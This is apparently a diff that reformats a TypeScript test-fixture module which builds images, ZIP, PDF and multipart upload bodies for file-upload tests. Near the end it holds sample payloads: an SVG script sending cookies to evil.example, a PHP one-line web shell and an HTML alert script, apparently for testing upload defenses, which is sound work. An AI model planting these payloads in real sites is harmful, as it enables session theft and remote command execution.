@@ -8,13 +8,27 @@ const noise = { type: 'gaussian', mean: 128, sigma: 30 } as const;
 
 /** A photo with the place where it was taken, taken with the phone on its side. */
 export async function photo({ width = 800, height = 600 } = {}): Promise<Buffer> {
-  return sharp({ create: { width, height, channels: 3, background: '#888', noise } }).jpeg({ quality: 80 })
-    .withExif({ IFD0: { Make: 'Phone', ImageDescription: 'at home' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '55/1 45/1 21/1', GPSLongitudeRef: 'E', GPSLongitude: '37/1 37/1 2/1' } })
-    .withMetadata({ orientation: 6 }).toBuffer();
+  return sharp({ create: { width, height, channels: 3, background: '#888', noise } })
+    .jpeg({ quality: 80 })
+    .withExif({
+      IFD0: { Make: 'Phone', ImageDescription: 'at home' },
+      IFD3: {
+        GPSLatitudeRef: 'N',
+        GPSLatitude: '55/1 45/1 21/1',
+        GPSLongitudeRef: 'E',
+        GPSLongitude: '37/1 37/1 2/1',
+      },
+    })
+    .withMetadata({ orientation: 6 })
+    .toBuffer();
 }
 
-export const picture = async (format: 'jpeg' | 'png' | 'gif' | 'webp' | 'avif' | 'tiff'): Promise<Buffer> =>
-  sharp({ create: { width: 64, height: 48, channels: 3, background: '#a33', noise } }).toFormat(format).toBuffer();
+export const picture = async (
+  format: 'jpeg' | 'png' | 'gif' | 'webp' | 'avif' | 'tiff',
+): Promise<Buffer> =>
+  sharp({ create: { width: 64, height: 48, channels: 3, background: '#a33', noise } })
+    .toFormat(format)
+    .toBuffer();
 
 function chunk(type: string, data: Buffer): Buffer {
   const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
@@ -32,7 +46,12 @@ export function pngOf(width: number, height: number, rows = height): Buffer {
   header.writeUInt32BE(width, 0);
   header.writeUInt32BE(height, 4);
   header[8] = 1;
-  return Buffer.concat([PNG_HEAD, chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(rows * (1 + Math.ceil(width / 8))), { level: 9 })), chunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    PNG_HEAD,
+    chunk('IHDR', header),
+    chunk('IDAT', deflateSync(Buffer.alloc(rows * (1 + Math.ceil(width / 8))), { level: 9 })),
+    chunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
 /** A comment of a JPEG, right behind its first marker. */
@@ -40,13 +59,23 @@ export function withComment(jpeg: Buffer, text: string): Buffer {
   const comment = Buffer.from(text, 'latin1');
   const length = Buffer.alloc(2);
   length.writeUInt16BE(comment.length + 2);
-  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, comment, jpeg.subarray(2)]);
+  return Buffer.concat([
+    jpeg.subarray(0, 2),
+    Buffer.from([0xff, 0xfe]),
+    length,
+    comment,
+    jpeg.subarray(2),
+  ]);
 }
 
 /** A text of a PNG, right behind its header. */
 export function withText(png: Buffer, text: string): Buffer {
   const end = 8 + 25;
-  return Buffer.concat([png.subarray(0, end), chunk('tEXt', Buffer.from(`Comment\0${text}`, 'latin1')), png.subarray(end)]);
+  return Buffer.concat([
+    png.subarray(0, end),
+    chunk('tEXt', Buffer.from(`Comment\0${text}`, 'latin1')),
+    png.subarray(end),
+  ]);
 }
 
 /** A JPEG that claims to be this large. */
@@ -73,18 +102,33 @@ export function zipOf(name: string, content: string): Buffer {
   return Buffer.concat([local, Buffer.from(name + content), central, Buffer.from(name), end]);
 }
 
-export const pdf = (inside = '') => Buffer.from(`%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n${inside}\ntrailer<</Root 1 0 R>>\n%%EOF\n`);
-export const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/"+document.cookie)</script></svg>';
+export const pdf = (inside = '') =>
+  Buffer.from(
+    `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n${inside}\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
+  );
+export const SVG =
+  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/"+document.cookie)</script></svg>';
 export const PHP = '<?php system($_GET["c"]); ?>';
 export const HTML = '<!doctype html><html><script>alert(1)</script></html>';
 
-export interface Part { name: string; content: string | Buffer; filename?: string; type?: string; headers?: string }
+export interface Part {
+  name: string;
+  content: string | Buffer;
+  filename?: string;
+  type?: string;
+  headers?: string;
+}
 
 /** A body of multipart/form-data byte by byte, for what a FormData would not let through. */
 export function bodyOf(parts: readonly Part[], boundary = 'limit'): Buffer {
-  const pieces = parts.map(({ name, content, filename, type, headers = '' }) => Buffer.concat([
-    Buffer.from(`--${boundary}\r\ncontent-disposition: form-data; name="${name}"${filename === undefined ? '' : `; filename="${filename}"`}\r\n${type === undefined ? '' : `content-type: ${type}\r\n`}${headers}\r\n`),
-    Buffer.from(content), Buffer.from('\r\n'),
-  ]));
+  const pieces = parts.map(({ name, content, filename, type, headers = '' }) =>
+    Buffer.concat([
+      Buffer.from(
+        `--${boundary}\r\ncontent-disposition: form-data; name="${name}"${filename === undefined ? '' : `; filename="${filename}"`}\r\n${type === undefined ? '' : `content-type: ${type}\r\n`}${headers}\r\n`,
+      ),
+      Buffer.from(content),
+      Buffer.from('\r\n'),
+    ]),
+  );
   return Buffer.concat([...pieces, Buffer.from(`--${boundary}--\r\n`)]);
 }
